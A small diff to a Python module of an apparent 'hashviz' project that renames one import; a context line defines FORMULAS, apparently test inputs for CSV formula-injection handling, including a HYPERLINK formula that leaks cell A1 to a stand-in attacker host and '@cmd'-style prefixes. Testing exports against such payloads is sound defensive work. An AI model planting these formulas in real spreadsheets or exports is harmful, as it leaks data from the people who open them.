@@ -14,7 +14,7 @@ from hashviz import leaderboard as lb
 from hashviz.comparison import compare_models
 from hashviz.exports import csv_bytes, model_context
 from hashviz.failures import failure_report
-from hashviz.neighbours import neighbour_table
+from hashviz.neighbour_table import neighbour_table
 from hashviz.zoo import class_names_of, discover
 
 FORMULAS = ['=HYPERLINK("http://evil.example/?leak="&A1,"open me")', "+SUM(1,2)", "-2+3", "@cmd"]
